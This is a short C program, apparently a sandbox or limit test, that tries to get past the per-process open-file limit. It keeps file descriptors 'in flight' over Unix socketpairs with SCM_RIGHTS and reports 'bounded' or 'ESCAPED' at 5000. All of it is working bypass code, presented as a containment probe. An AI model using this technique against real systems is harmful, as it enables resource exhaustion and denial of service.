/* Keeps descriptors in flight over local sockets, to have more of them than it may: a way round the limit of files. */
#include "attack.h"

static long pass(int socket, int fd)
{
    char byte = 0, room[CMSG_SPACE(sizeof fd)] = { 0 };
    struct iovec data = { &byte, 1 };
    struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    return sendmsg(socket, &message, MSG_DONTWAIT);
}

int main(void)
{
    int flying = 0, ends[2];
    while (flying < 5000 && socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0) {
        int sent = 0;
        while (flying < 5000 && pass(ends[0], ends[1]) >= 0)
            flying++, sent++;
        if (sent == 0)
            break;
    }
    puts(flying < 5000 ? "bounded" : "ESCAPED: 5000 descriptors in flight");
    return 0;
}
